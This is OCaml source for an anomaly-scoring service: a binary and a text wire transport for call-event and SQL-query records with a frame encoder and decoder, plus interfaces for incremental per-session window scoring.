      if String.equal (Array.unsafe_get e.cache slot) s then
        add_varint e.w (Array.unsafe_get e.cache_idx slot + 1)
      else begin
        (match Hashtbl.find_opt e.interned s with
        | Some i -> add_varint e.w (i + 1)
        | None ->
            Hashtbl.add e.interned s e.next;
            e.next <- e.next + 1;
            add_u8 e.w 0;
            add_str e.w s);
        (* cache the index the string now has, whoever assigned it *)
        Array.unsafe_set e.cache slot s;
        Array.unsafe_set e.cache_idx slot (Hashtbl.find e.interned s)
      end
    end

  let add_symbol e (sym : Symbol.t) =
    match sym with
    | Entry -> add_u8 e.w 0
    | Exit -> add_u8 e.w 1
    | Func name ->
        add_u8 e.w 2;
        add_strref e name
    | Lib { name; label; site } ->
        add_u8 e.w 3;
        add_strref e name;
        add_opt_int e.w label;
        add_opt_int e.w site

  let begin_frame e =
    (* reserve the header slot after whatever is already staged *)
    writer_need e.w 8;
    e.fstart <- e.w.wpos;
    e.w.wpos <- e.w.wpos + 8

  let end_frame e out ~ver tag =
    let w = e.w in
    let fs = e.fstart in
    let len = w.wpos - fs - 8 in
    if len > max_payload then begin
      w.wpos <- fs; (* drop the staged frame: the stream must stay whole *)
      invalid_arg
        (Printf.sprintf "Frame.Encoder.add: %s payload of %d bytes exceeds %d"
           (frame_name_of_tag tag) len max_payload)
    end;
    let b = w.wbuf in
    Bytes.unsafe_set b fs magic.[0];
    Bytes.unsafe_set b (fs + 1) magic.[1];
    Bytes.unsafe_set b (fs + 2) (Char.unsafe_chr ver);
    Bytes.unsafe_set b (fs + 3) (Char.unsafe_chr tag);
    Bytes.unsafe_set b (fs + 4) (Char.unsafe_chr (len lsr 24 land 0xff));
    Bytes.unsafe_set b (fs + 5) (Char.unsafe_chr (len lsr 16 land 0xff));
    Bytes.unsafe_set b (fs + 6) (Char.unsafe_chr (len lsr 8 land 0xff));
    Bytes.unsafe_set b (fs + 7) (Char.unsafe_chr (len land 0xff));
    if w.wpos >= stage_limit then flush e out

  (* the item hot path, shared by [add] and {!T.encode} *)

  let add_call_slow e out { Transport.session; event } =
    begin_frame e;
    add_varint e.w session;
    add_strref e event.Runtime.Collector.caller;
    add_zigzag e.w event.Runtime.Collector.block;
    add_symbol e event.Runtime.Collector.symbol;
    end_frame e out ~ver:1 2

  (* [put_varint b p n] writes at [p] (capacity pre-checked) and
     returns the next position — position-passing instead of a ref so
     nothing escapes to the heap *)
  let put_varint b p n =
    if n land lnot 0x7f = 0 then begin
      Bytes.unsafe_set b p (Char.unsafe_chr n);
      p + 1
    end
    else begin
      let p = ref p and n = ref n in
      while !n land lnot 0x7f <> 0 do
        Bytes.unsafe_set b !p (Char.unsafe_chr (!n land 0x7f lor 0x80));
        incr p;
        n := !n lsr 7
      done;
      Bytes.unsafe_set b !p (Char.unsafe_chr !n);
      !p + 1
    end

  let put_opt b p = function
    | None ->
        Bytes.unsafe_set b p '\000';
        p + 1
    | Some v -> put_varint b p (v + 1)

  (* Fused fast path: when every string of the frame is an interning
     cache hit (the steady state — the Collector re-emits the same few
     dozen strings forever) the whole frame is written with one
     capacity check and inline varints, no interning-table mutation.
     Any miss falls back to the generic writers above, which also
     maintain the tables. Worst fused payload: 6 varints (9 bytes
     each) + 1 tag byte = 55, plus the 8-byte header — the single
     [writer_need w 64] covers it. *)
  let cached_ref e s =
    if String.length s = 0 then -1
    else begin
      let slot = slot_of s in
      if String.equal (Array.unsafe_get e.cache slot) s then
        Array.unsafe_get e.cache_idx slot + 1
      else -1
    end

  let add_call e out ({ Transport.session; event } as ev) =
    if session < 0 then invalid_arg "Frame.Encoder.add: negative session id";
    let cref = cached_ref e event.Runtime.Collector.caller in
    if cref < 0 then add_call_slow e out ev
    else begin
      let w = e.w in
      writer_need w 64;
      let b = w.wbuf in
      let block = event.Runtime.Collector.block in
      e.fstart <- w.wpos;
      let p = put_varint b (w.wpos + 8) session in
      let p = put_varint b p cref in
      let p = put_varint b p ((block lsl 1) lxor (block asr 62)) in
      match event.Runtime.Collector.symbol with
      | Entry ->
          Bytes.unsafe_set b p '\000';
          w.wpos <- p + 1;
          end_frame e out ~ver:1 2
      | Exit ->
          Bytes.unsafe_set b p '\001';
          w.wpos <- p + 1;
          end_frame e out ~ver:1 2
      | Func name ->
          let nref = cached_ref e name in
          if nref < 0 then add_call_slow e out ev
          else begin
            Bytes.unsafe_set b p '\002';
            w.wpos <- put_varint b (p + 1) nref;
            end_frame e out ~ver:1 2
          end
      | Lib { name; label; site } ->
          let nref = cached_ref e name in
          if nref < 0 then add_call_slow e out ev
          else begin
            Bytes.unsafe_set b p '\003';
            let p = put_varint b (p + 1) nref in
            let p = put_opt b p label in
            let p = put_opt b p site in
            w.wpos <- p;
            end_frame e out ~ver:1 2
          end
    end

  let add_query e out { Transport.q_session; rows; sql } =
    if q_session < 0 then invalid_arg "Frame.Encoder.add: negative session id";
    if rows < 0 then invalid_arg "Frame.Encoder.add: negative row count";
    begin_frame e;
    add_varint e.w q_session;
    add_varint e.w rows;
    add_str e.w sql;
    end_frame e out ~ver:1 3

  let add_snapshot buf (s : Metrics.snapshot) =
    add_varint buf (List.length s.Metrics.counters);
    List.iter
      (fun (name, v) ->
        add_str buf name;
        add_varint buf v)
      s.Metrics.counters;
    add_varint buf (List.length s.Metrics.gauges);
    List.iter
      (fun (name, v, hwm) ->
        add_str buf name;
        add_zigzag buf v;
        add_zigzag buf hwm)
      s.Metrics.gauges;
    add_varint buf (List.length s.Metrics.histograms);
    List.iter
      (fun (hs : Metrics.hist_snapshot) ->
        add_str buf hs.Metrics.hs_name;
        add_varint buf (Array.length hs.Metrics.hs_bounds);
        Array.iter
          (fun b -> add_fixed64 buf (Int64.bits_of_float b))
          hs.Metrics.hs_bounds;
        (* buckets length is bounds + 1 by construction, so implied *)
        Array.iter (fun n -> add_varint buf n) hs.Metrics.hs_buckets;
        add_fixed64 buf (Int64.bits_of_float hs.Metrics.hs_sum);
        add_varint buf hs.Metrics.hs_count)
      s.Metrics.histograms

  let add_span buf (sp : Adprom_obs.Trace.span) =
    add_str buf sp.Adprom_obs.Trace.name;
    add_varint buf sp.Adprom_obs.Trace.trace_id;
    add_varint buf sp.Adprom_obs.Trace.span_id;
    add_opt_int buf sp.Adprom_obs.Trace.parent;
    add_varint buf sp.Adprom_obs.Trace.domain;
    add_fixed64 buf sp.Adprom_obs.Trace.start_ns;
    add_fixed64 buf sp.Adprom_obs.Trace.dur_ns;
    add_varint buf (List.length sp.Adprom_obs.Trace.attrs);
    List.iter
      (fun (k, v) ->
        add_str buf k;
        add_str buf v)
      sp.Adprom_obs.Trace.attrs

  let encode_payload e = function
    | Call _ | Query _ -> assert false (* [add] dispatches those *)
    | Hello { version; peer; sample } -> (
        add_varint e.w version;
        add_str e.w peer;
        (* without a sample the payload is exactly the v1 shape (v1
           decoders reject trailing bytes), and [frame_wire_version]
           stamps the header v1 to match *)
        match sample with
        | None -> ()
        | Some (mono_ns, wall_ns) ->
            add_bool e.w true;
            add_fixed64 e.w mono_ns;
            add_fixed64 e.w wall_ns)
    | Ack { count } -> add_varint e.w count
    | Metrics_req | Bye | Health_req | Spans_req -> ()
    | Clock_probe { seq } -> add_varint e.w seq
    | Clock_reply { seq; mono_ns; wall_ns } ->
        add_varint e.w seq;
        add_fixed64 e.w mono_ns;
        add_fixed64 e.w wall_ns
    | Trace_mark { trace_id; send_mono_ns; offset_ns } ->
        add_varint e.w trace_id;
        add_fixed64 e.w send_mono_ns;
        add_fixed64 e.w offset_ns
    | Health_resp { h_node; h_status; h_snapshot; h_incidents; h_uptime_s } ->
        let buf = e.w in
        add_str buf h_node;
        add_u8 buf (Health.status_to_int h_status);
        add_fixed64 buf (Int64.bits_of_float h_uptime_s);
        add_snapshot buf h_snapshot;
        add_varint buf (List.length h_incidents);
        List.iter
          (fun (s, text) ->
            add_varint buf s;
            add_str buf text)
          h_incidents
    | Spans_resp spans ->
        add_varint e.w (List.length spans);
        List.iter (add_span e.w) spans
    | Metrics_resp dump ->
        let w = e.w in
        let len = String.length dump in
        writer_need w len;
        Bytes.blit_string dump 0 w.wbuf w.wpos len;
        w.wpos <- w.wpos + len
    | Summary { node; summary; incidents; fused = fu } ->
        let buf = e.w in
        add_str buf node;
        add_varint buf summary.Daemon.events_offered;
        add_varint buf summary.Daemon.events_ingested;
        add_varint buf summary.Daemon.events_dropped;
        add_varint buf (List.length summary.Daemon.sessions);
        List.iter
          (fun (r : Daemon.session_report) ->
            add_varint buf r.session;
            add_varint buf r.events;
            add_varint buf r.windows;
            add_flag buf r.worst;
            add_varint buf (List.length r.verdicts);
            List.iter (add_verdict buf) r.verdicts;
            add_varint buf r.qsig_checks;
            add_varint buf r.qsig_anomalies)
          summary.Daemon.sessions;
        add_varint buf (List.length summary.Daemon.shed);
        List.iter
          (fun (s, dropped, discarded) ->
            add_varint buf s;
            add_varint buf dropped;
            add_varint buf discarded)
          summary.Daemon.shed;
        add_varint buf (List.length incidents);
        List.iter
          (fun (s, text) ->
            add_varint buf s;
            add_str buf text)
          incidents;
        add_varint buf (List.length fu);
        List.iter
          (fun (s, f) ->
            add_varint buf s;
            add_fused buf f)
          fu

  let add e out frame =
    match frame with
    | Call ev -> add_call e out ev
    | Query q -> add_query e out q
    | _ ->
        begin_frame e;
        encode_payload e frame;
        end_frame e out ~ver:(frame_wire_version frame) (tag_of_frame frame)
end

module Decoder = struct
  type t = {
    pending : Buffer.t;  (* at most one incomplete frame *)
    mutable interned : string array;
    mutable interned_len : int;
    mutable dead : error option;
    max_version : int;  (* headers stamped above this are rejected —
                           [create ~max_version:1] behaves like an old
                           build, which the version-skew tests pin *)
  }

  let create ?(max_version = protocol_version) () =
    { pending = Buffer.create 256; interned = [||]; interned_len = 0;
      dead = None; max_version }

  (* The table's memory is bounded by the bytes the peer actually sent
     (an inline definition costs its full length on the wire), so no
     separate cap is needed. *)
  let intern_push d s =
    if d.interned_len = Array.length d.interned then begin
      let a = Array.make (max 16 (2 * d.interned_len)) "" in
      Array.blit d.interned 0 a 0 d.interned_len;
      d.interned <- a
    end;
    d.interned.(d.interned_len) <- s;
    d.interned_len <- d.interned_len + 1;
    s

  let strref d c =
    match varint c with
    | 0 -> intern_push d (str c)
    | k when k > 0 && k - 1 < d.interned_len -> d.interned.(k - 1)
    (* a negative reference (9-byte varint into the sign bit) must land
       here, not index the array with a negative offset *)
    | k -> raise (Fail (Printf.sprintf "string reference %d out of range" k))

  let symbol d c : Symbol.t =
    match u8 c with
    | 0 -> Entry
    | 1 -> Exit
    | 2 -> Func (strref d c)
    | 3 ->
        let name = strref d c in
        let label = opt_int c in
        let site = opt_int c in
        Lib { name; label; site }
    | b -> raise (Fail (Printf.sprintf "bad symbol tag %d" b))

  let read_snapshot c =
    let counters =
      read_list c (fun c ->
          let name = str c in
          let v = nonneg c "counter value" in
          (name, v))
    in
    let gauges =
      read_list c (fun c ->
          let name = str c in
          let v = zigzag c in
          let hwm = zigzag c in
          (name, v, hwm))
    in
    let histograms =
      read_list c (fun c ->
          let hs_name = str c in
          let nb = varint c in
          (* each bound is 8 bytes, so the remaining payload bounds a
             well-formed count — same guard as [read_list] *)
          if nb < 0 || nb > (c.cstop - c.p) / 8 then
            raise (Fail "histogram bound count out of range");
          let hs_bounds =
            Array.init nb (fun _ -> Int64.float_of_bits (fixed64 c))
          in
          let hs_buckets =
            Array.init (nb + 1) (fun _ -> nonneg c "bucket count")
          in
          let hs_sum = Int64.float_of_bits (fixed64 c) in
          let hs_count = nonneg c "histogram count" in
          { Metrics.hs_name; hs_bounds; hs_buckets; hs_sum; hs_count })
    in
    { Metrics.counters; gauges; histograms }

  let read_span c : Adprom_obs.Trace.span =
    let name = str c in
    let trace_id = nonneg c "trace id" in
    let span_id = nonneg c "span id" in
    let parent = opt_int c in
    let domain = nonneg c "domain id" in
    let start_ns = fixed64 c in
    let dur_ns = fixed64 c in
    let attrs =
      read_list c (fun c ->
          let k = str c in
          let v = str c in
          (k, v))
    in
    { Adprom_obs.Trace.name; trace_id; span_id; parent; domain; start_ns;
      dur_ns; attrs }

  let decode_payload d ~ver tag s pos stop =
    let c = { cbuf = s; p = pos; cstop = stop } in
    let frame =
      match tag with
      | 0 ->
          let version = varint c in
          let peer = str c in
          let sample =
            (* the v2 extension rides behind the v1 fields; a v2 header
               with nothing further is a plain sample-less hello *)
            if ver >= 2 && c.p < stop then
              if bool c then begin
                let mono_ns = fixed64 c in
                let wall_ns = fixed64 c in
                Some (mono_ns, wall_ns)
              end
              else None
            else None
          in
          Hello { version; peer; sample }
      | 1 -> Ack { count = nonneg c "ack count" }
      | 2 ->
          let session = nonneg c "session id" in
          let caller = strref d c in
          let block = zigzag c in
          let symbol = symbol d c in
          Call { Transport.session; event = { Runtime.Collector.caller; block; symbol } }
      | 3 ->
          let q_session = nonneg c "session id" in
          let rows = nonneg c "row count" in
          let sql = str c in
          Query { Transport.q_session; rows; sql }
      | 4 -> Metrics_req
      | 5 ->
          c.p <- stop;  (* the whole payload is the dump text *)
          Metrics_resp (String.sub s pos (stop - pos))
      | 6 -> Bye
      | 7 ->
          let node = str c in
          let events_offered = varint c in
          let events_ingested = varint c in
          let events_dropped = varint c in
          let sessions =
            read_list c (fun c ->
                let session = varint c in
                let events = varint c in
                let windows = varint c in
                let worst = flag c in
                let verdicts = read_list c verdict in
                let qsig_checks = varint c in
                let qsig_anomalies = varint c in
                { Daemon.session; events; windows; worst; verdicts;
                  qsig_checks; qsig_anomalies })
          in
          let shed =
            read_list c (fun c ->
                let s = varint c in
                let dropped = varint c in
                let discarded = varint c in
                (s, dropped, discarded))
          in
          let incidents =
            read_list c (fun c ->
                let s = varint c in
                let text = str c in
                (s, text))
          in
          let fu =
            read_list c (fun c ->
                let s = varint c in
                let f = fused c in
                (s, f))
          in
          Summary
            { node;
              summary =
                { Daemon.sessions; shed; events_offered; events_ingested;
                  events_dropped };
              incidents;
              fused = fu }
      | 8 -> Clock_probe { seq = nonneg c "probe seq" }
      | 9 ->
          let seq = nonneg c "probe seq" in
          let mono_ns = fixed64 c in
          let wall_ns = fixed64 c in
          Clock_reply { seq; mono_ns; wall_ns }
      | 10 ->
          let trace_id = nonneg c "trace id" in
          let send_mono_ns = fixed64 c in
          let offset_ns = fixed64 c in
          Trace_mark { trace_id; send_mono_ns; offset_ns }
      | 11 -> Health_req
      | 12 ->
          let h_node = str c in
          let h_status =
            match Health.status_of_int (u8 c) with
            | Some s -> s
            | None -> raise (Fail "bad health status byte")
          in
          let h_uptime_s = Int64.float_of_bits (fixed64 c) in
          let h_snapshot = read_snapshot c in
          let h_incidents =
            read_list c (fun c ->
                let s = varint c in
                let text = str c in
                (s, text))
          in
          Health_resp { h_node; h_status; h_snapshot; h_incidents; h_uptime_s }
      | 13 -> Spans_req
      | 14 -> Spans_resp (read_list c read_span)
      | _ -> assert false (* the frame loop rejected the tag already *)
    in
    if c.p <> stop then raise (Fail "trailing bytes after payload");
    frame

  let parse_frames d s pos stop ~init ~f =
    let rec go acc i =
      if stop - i < 8 then Ok (acc, i)
      else begin
        let b0 = Char.code (String.unsafe_get s i)
        and b1 = Char.code (String.unsafe_get s (i + 1)) in
        if b0 <> Char.code magic.[0] || b1 <> Char.code magic.[1] then
          Error (Bad_magic { byte0 = b0; byte1 = b1 })
        else begin
          let ver = Char.code (String.unsafe_get s (i + 2)) in
          if ver < 1 || ver > d.max_version then Error (Bad_version ver)
          else begin
            let tag = Char.code (String.unsafe_get s (i + 3)) in
            if tag > max_tag_of_version ver then Error (Bad_frame_type tag)
            else begin
              let len =
                (Char.code (String.unsafe_get s (i + 4)) lsl 24)
                lor (Char.code (String.unsafe_get s (i + 5)) lsl 16)
                lor (Char.code (String.unsafe_get s (i + 6)) lsl 8)
                lor Char.code (String.unsafe_get s (i + 7))
              in
              if len > max_payload then
                Error (Frame_too_large { length = len; limit = max_payload })
              else if stop - i - 8 < len then Ok (acc, i)
              else
                match decode_payload d ~ver tag s (i + 8) (i + 8 + len) with
                | frame -> go (f acc frame) (i + 8 + len)
                | exception Fail reason ->
                    Error
                      (Bad_payload { frame = frame_name_of_tag tag; reason })
            end
          end
        end
      end
    in
    go init pos

  (* [parse_frames] specialized to an item stream: call and query
     payloads decode straight to {!Transport.item} — no intermediate
     [frame] box, one cursor reused across the whole chunk. This is the
     hot loop behind {!T.fold}, which the serve loop and the replay
     reader drive. *)
  let parse_items d s pos stop ~init ~f =
    let c = { cbuf = s; p = 0; cstop = 0 } in
    let rec go acc i =
      if stop - i < 8 then Ok (acc, i)
      else begin
        let b0 = Char.code (String.unsafe_get s i)
        and b1 = Char.code (String.unsafe_get s (i + 1)) in
        if b0 <> Char.code magic.[0] || b1 <> Char.code magic.[1] then
          Error (Bad_magic { byte0 = b0; byte1 = b1 })
        else begin
          let ver = Char.code (String.unsafe_get s (i + 2)) in
          if ver < 1 || ver > d.max_version then Error (Bad_version ver)
          else begin
            let tag = Char.code (String.unsafe_get s (i + 3)) in
            if tag > max_tag_of_version ver then Error (Bad_frame_type tag)
            else begin
              let len =
                (Char.code (String.unsafe_get s (i + 4)) lsl 24)
                lor (Char.code (String.unsafe_get s (i + 5)) lsl 16)
                lor (Char.code (String.unsafe_get s (i + 6)) lsl 8)
                lor Char.code (String.unsafe_get s (i + 7))
              in
              if len > max_payload then
                Error (Frame_too_large { length = len; limit = max_payload })
              else if stop - i - 8 < len then Ok (acc, i)
              else begin
                c.p <- i + 8;
                c.cstop <- i + 8 + len;
                if tag = 2 then
                  match
                    let session = nonneg c "session id" in
                    let caller = strref d c in
                    let block = zigzag c in
                    let symbol = symbol d c in
                    if c.p <> c.cstop then
                      raise_notrace (Fail "trailing bytes after payload");
                    { Transport.session;
                      event = { Runtime.Collector.caller; block; symbol } }
                  with
                  | ev -> go (f acc (Transport.Call ev)) (i + 8 + len)
                  | exception Fail reason ->
                      Error (Bad_payload { frame = "call"; reason })
                else if tag = 3 then
                  match
                    let q_session = nonneg c "session id" in
                    let rows = nonneg c "row count" in
                    let sql = str c in
                    if c.p <> c.cstop then
                      raise_notrace (Fail "trailing bytes after payload");
                    { Transport.q_session; rows; sql }
                  with
                  | q -> go (f acc (Transport.Query q)) (i + 8 + len)
                  | exception Fail reason ->
                      Error (Bad_payload { frame = "query"; reason })
                else if tag = 0 then
                  (* record files may open with a hello; validate and skip
                     (either shape — a v2 one may carry a clock sample) *)
                  match
                    ignore (varint c);
                    ignore (str c);
                    if ver >= 2 && c.p < c.cstop then
                      if bool c then begin
                        ignore (fixed64 c);
                        ignore (fixed64 c)
                      end;
                    if c.p <> c.cstop then
                      raise_notrace (Fail "trailing bytes after payload")
                  with
                  | () -> go acc (i + 8 + len)
                  | exception Fail reason ->
                      Error (Bad_payload { frame = "hello"; reason })
                else
                  Error
                    (Bad_payload
                       { frame = frame_name_of_tag tag;
                         reason = "control frame in an item stream" })
              end
            end
          end
        end
      end
    in
    go init pos

  (* the generic chunk pump: pending-buffer stitching and poisoning in
     one place; [parse] is {!parse_frames} or {!parse_items}, [f] folds
     each completed frame or item *)
  let feed_gen parse d ?(pos = 0) ?len s ~init ~f =
    match d.dead with
    | Some e -> Error e
    | None -> (
        let len = match len with Some l -> l | None -> String.length s - pos in
        let stop = pos + len in
        let view, vpos, vstop =
          if Buffer.length d.pending = 0 then (s, pos, stop)
          else begin
            (* a partial frame from the previous chunk: complete it *)
            Buffer.add_substring d.pending s pos len;
            let v = Buffer.contents d.pending in
            Buffer.clear d.pending;
            (v, 0, String.length v)
          end
        in
        match parse d view vpos vstop ~init ~f with
        | Error e ->
            d.dead <- Some e;
            Error e
        | Ok (acc, i) ->
            if i < vstop then Buffer.add_substring d.pending view i (vstop - i);
            Ok acc)

  let feed_fold d ?pos ?len s ~init ~f = feed_gen parse_frames d ?pos ?len s ~init ~f
  let feed_items d ?pos ?len s ~init ~f = feed_gen parse_items d ?pos ?len s ~init ~f

  let feed d ?pos ?len s =
    match feed_fold d ?pos ?len s ~init:[] ~f:(fun acc fr -> fr :: acc) with
    | Error e -> Error e
    | Ok acc -> Ok (List.rev acc)

  let finish d =
    match d.dead with
    | Some e -> Error e
    | None ->
        let n = Buffer.length d.pending in
        if n = 0 then Ok ()
        else begin
          let e = Truncated { pending = n } in
          d.dead <- Some e;
          Error e
        end
end

let detect s =
  if String.length s >= 2 && s.[0] = magic.[0] && s.[1] = magic.[1] then
    Transport.Binary
  else Transport.Line

module T = struct
  let id = "binary"

  type enc = Encoder.t
  type dec = Decoder.t

  let encoder = Encoder.create
  let decoder () = Decoder.create ()

  let encode e buf = function
    | Transport.Call ev -> Encoder.add_call e buf ev
    | Transport.Query q -> Encoder.add_query e buf q

  let flush = Encoder.flush

  let fold d ?pos ?len s ~init ~f =
    match Decoder.feed_items d ?pos ?len s ~init ~f with
    | Error e -> Error (error_to_string e)
    | Ok acc -> Ok acc

  let feed d ?pos ?len s =
    match fold d ?pos ?len s ~init:[] ~f:(fun its it -> it :: its) with
    | Error e -> Error e
    | Ok its -> Ok (List.rev its)

  let finish d =
    match Decoder.finish d with
    | Error e -> Error (error_to_string e)
    | Ok () -> Ok []
end

let transport_of_wire : Transport.wire -> (module Transport.S) = function
  | Transport.Line -> (module Transport.Text)
  | Transport.Binary -> (module T)

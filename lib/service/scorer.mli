(** Per-session incremental scoring: a ring buffer of the last [window]
    events, classified on every arrival once full. Feeding a whole trace
    event-by-event and then calling {!flush} produces exactly the
    verdicts of the batch loop [Detector.monitor profile trace] — each
    event is scored once as it arrives instead of re-windowing the whole
    trace. *)

type t

val create : ?window:int -> ?keep_verdicts:bool -> Adprom.Profile.t -> t
(** [window] defaults to the profile's window length. With
    [keep_verdicts:false] (for high-volume serving) only the counts and
    the worst flag are retained, not the verdict list.
    @raise Invalid_argument if [window <= 0]. *)

val push : t -> Runtime.Collector.event -> Adprom.Detector.verdict option
(** Ingest one event; [Some verdict] once at least [window] events have
    been seen (the verdict of the window ending at this event).
    @raise Invalid_argument after {!flush}. *)

val flush : t -> Adprom.Detector.verdict option
(** End of session. A non-empty session shorter than the window yields
    its single whole-trace verdict here (matching [Window.of_trace]);
    otherwise [None]. Idempotent. *)

val events_seen : t -> int
val windows_scored : t -> int
val worst : t -> Adprom.Detector.flag
val verdicts : t -> Adprom.Detector.verdict list
(** Scored verdicts in arrival order (empty under [keep_verdicts:false]). *)

val flag_count : t -> Adprom.Detector.flag -> int

(** Per-session incremental scoring over the compiled engine: a ring of
    interned codes ({!Adprom.Scoring.Stream}), classified on every
    arrival once full, plus per-session verdict accounting. Feeding a
    whole trace event-by-event and then calling {!flush} produces
    exactly the verdicts of the batch loop [Detector.monitor profile
    trace] — each event is scored once as it arrives, and repeated
    windows are served from the engine's verdict memo without a forward
    pass. *)

type t

val create : ?window:int -> ?keep_verdicts:bool -> Adprom.Profile.t -> t
(** Score over the profile's domain-local engine
    ([Scoring.of_profile]): every scorer of this profile on the calling
    domain shares one compiled engine and one verdict memo. [window]
    defaults to the profile's window length. With [keep_verdicts:false]
    (for high-volume serving) only the counts and the worst flag are
    retained, not the verdict list.
    @raise Invalid_argument if [window <= 0]. *)

val create_with : ?window:int -> ?keep_verdicts:bool -> Adprom.Scoring.t -> t
(** Same, over an explicit engine — what the daemon uses to share one
    engine across all sessions of a worker domain. *)

val engine : t -> Adprom.Scoring.t

val push : t -> Runtime.Collector.event -> (Adprom.Detector.verdict option, string) result
(** Ingest one event; [Ok (Some verdict)] once at least [window] events
    have been seen (the verdict of the window ending at this event).
    After {!flush}, a soft [Error] describing the protocol slip — never
    an exception — so the daemon can account it as a codec-level
    incident instead of crashing a shard. *)

val flush : t -> Adprom.Detector.verdict option
(** End of session. A non-empty session shorter than the window yields
    its single whole-trace verdict here (matching [Window.of_trace]);
    otherwise [None]. Idempotent. *)

val explain_last : ?top:int -> t -> Adprom.Scoring.explanation option
(** Explain the most recently scored window ({!Adprom.Scoring.explain}
    semantics): [None] if it was [Normal] or nothing has been scored.
    The daemon calls this only on verdicts it records as incidents. *)

val events_seen : t -> int
val windows_scored : t -> int
val worst : t -> Adprom.Detector.flag
val verdicts : t -> Adprom.Detector.verdict list
(** Scored verdicts in arrival order (empty under [keep_verdicts:false]). *)

val flag_count : t -> Adprom.Detector.flag -> int

module Trace_io = Runtime.Trace_io

type event = Adprom.Sessions.tagged = {
  session : int;
  event : Runtime.Collector.event;
}

type query = { q_session : int; rows : int; sql : string }

type item = Call of event | Query of query

let item_session = function
  | Call ev -> ev.session
  | Query q -> q.q_session

module type S = sig
  val id : string

  type enc
  type dec

  val encoder : unit -> enc
  val decoder : unit -> dec
  val encode : enc -> Buffer.t -> item -> unit
  val flush : enc -> Buffer.t -> unit
  val feed : dec -> ?pos:int -> ?len:int -> string -> (item list, string) result

  val fold :
    dec ->
    ?pos:int ->
    ?len:int ->
    string ->
    init:'a ->
    f:('a -> item -> 'a) ->
    ('a, string) result

  val finish : dec -> (item list, string) result
end

type wire = Line | Binary

let wire_to_string = function Line -> "text" | Binary -> "binary"

let wire_of_string = function
  | "text" | "line" -> Some Line
  | "binary" | "bin" -> Some Binary
  | _ -> None

let encode_all (module T : S) items =
  let enc = T.encoder () in
  let buf = Buffer.create (Array.length items * 40) in
  Array.iter (T.encode enc buf) items;
  T.flush enc buf;
  Buffer.contents buf

let decode_all (module T : S) text =
  let dec = T.decoder () in
  match T.feed dec text with
  | Error e -> Error e
  | Ok items -> (
      match T.finish dec with
      | Error e -> Error e
      | Ok [] -> Ok (Array.of_list items) (* don't copy the common case *)
      | Ok rest -> Ok (Array.of_list (items @ rest)))

module Text = struct
  let id = "text"

  let encode_event { session; event = e } =
    Printf.sprintf "%d\t%s\t%d\t%s" session e.Runtime.Collector.caller
      e.Runtime.Collector.block
      (Trace_io.encode_symbol e.Runtime.Collector.symbol)

  let encode_query { q_session; rows; sql } =
    Printf.sprintf "q\t%d\t%d\t%s" q_session rows sql

  let encode_line = function
    | Call ev -> encode_event ev
    | Query q -> encode_query q

  let is_query_line line =
    String.length line >= 2 && line.[0] = 'q' && line.[1] = '\t'

  let parse_query_line line =
    (* q <TAB> session <TAB> rows <TAB> sql; the sql may itself contain
       tabs, so only the first three cuts split. *)
    match String.split_on_char '\t' line with
    | "q" :: sid :: rows :: sql_rest when sql_rest <> [] -> (
        let sql = String.concat "\t" sql_rest in
        match (int_of_string_opt sid, int_of_string_opt rows) with
        | Some q_session, _ when q_session < 0 ->
            Error (Printf.sprintf "negative session id %d" q_session)
        | _, Some rows when rows < 0 ->
            (* a corrupt cardinality would silently skew the qsig
               result-cardinality bands; reject it at the door *)
            Error (Printf.sprintf "negative row count %d" rows)
        | Some q_session, Some rows -> Ok { q_session; rows; sql }
        | None, _ -> Error (Printf.sprintf "bad session id %S" sid)
        | _, None -> Error (Printf.sprintf "bad row count %S" rows))
    | _ -> Error "expected q<TAB>session<TAB>rows<TAB>sql"

  let parse_event_line line =
    match String.index_opt line '\t' with
    | None ->
        Error "expected 4 tab-separated fields (session, caller, block, symbol)"
    | Some cut -> (
        let sid = String.sub line 0 cut in
        let rest = String.sub line (cut + 1) (String.length line - cut - 1) in
        match int_of_string_opt sid with
        | None -> Error (Printf.sprintf "bad session id %S" sid)
        | Some session when session < 0 ->
            Error (Printf.sprintf "negative session id %d" session)
        | Some session -> (
            match Trace_io.parse_event rest with
            | Ok event -> Ok { session; event }
            | Error e -> Error e))

  let parse_item line =
    if is_query_line line then
      match parse_query_line line with
      | Ok q -> Ok (Query q)
      | Error e -> Error e
    else
      match parse_event_line line with
      | Ok ev -> Ok (Call ev)
      | Error e -> Error e

  type enc = unit

  type dec = {
    pending : Buffer.t;  (* a partial line split across feeds *)
    mutable lineno : int;
    mutable dead : string option;
  }

  let encoder () = ()
  let decoder () = { pending = Buffer.create 80; lineno = 1; dead = None }

  let encode () buf it =
    Buffer.add_string buf (encode_line it);
    Buffer.add_char buf '\n'

  let flush () _ = () (* lines go straight to the buffer *)

  let chomp line =
    let n = String.length line in
    if n > 0 && line.[n - 1] = '\r' then String.sub line 0 (n - 1) else line

  (* One complete line: blank lines and # comments are skipped but still
     advance the line counter (kept by the caller). *)
  let process_line dec line acc ~f =
    let line = chomp line in
    match String.trim line with
    | "" -> Ok acc
    | t when t.[0] = '#' -> Ok acc
    | _ -> (
        match parse_item line with
        | Ok it -> Ok (f acc it)
        | Error e ->
            let msg = Printf.sprintf "line %d: %s" dec.lineno e in
            dec.dead <- Some msg;
            Error msg)

  let fold dec ?(pos = 0) ?len s ~init ~f =
    match dec.dead with
    | Some e -> Error e
    | None -> (
        let len = match len with Some l -> l | None -> String.length s - pos in
        let stop = pos + len in
        let rec go acc i =
          if i >= stop then Ok acc
          else
            match String.index_from_opt s i '\n' with
            | Some j when j < stop ->
                let line =
                  if Buffer.length dec.pending = 0 then String.sub s i (j - i)
                  else begin
                    Buffer.add_substring dec.pending s i (j - i);
                    let l = Buffer.contents dec.pending in
                    Buffer.clear dec.pending;
                    l
                  end
                in
                (match process_line dec line acc ~f with
                | Error e -> Error e
                | Ok acc ->
                    dec.lineno <- dec.lineno + 1;
                    go acc (j + 1))
            | _ ->
                Buffer.add_substring dec.pending s i (stop - i);
                Ok acc
        in
        go init pos)

  let feed dec ?pos ?len s =
    match fold dec ?pos ?len s ~init:[] ~f:(fun acc it -> it :: acc) with
    | Error e -> Error e
    | Ok acc -> Ok (List.rev acc)

  let finish dec =
    match dec.dead with
    | Some e -> Error e
    | None ->
        if Buffer.length dec.pending = 0 then Ok []
        else begin
          let line = Buffer.contents dec.pending in
          Buffer.clear dec.pending;
          match process_line dec line [] ~f:(fun acc it -> it :: acc) with
          | Error e -> Error e
          | Ok acc -> Ok (List.rev acc)
        end
end

type counter = { c_name : string; c_value : int Atomic.t }
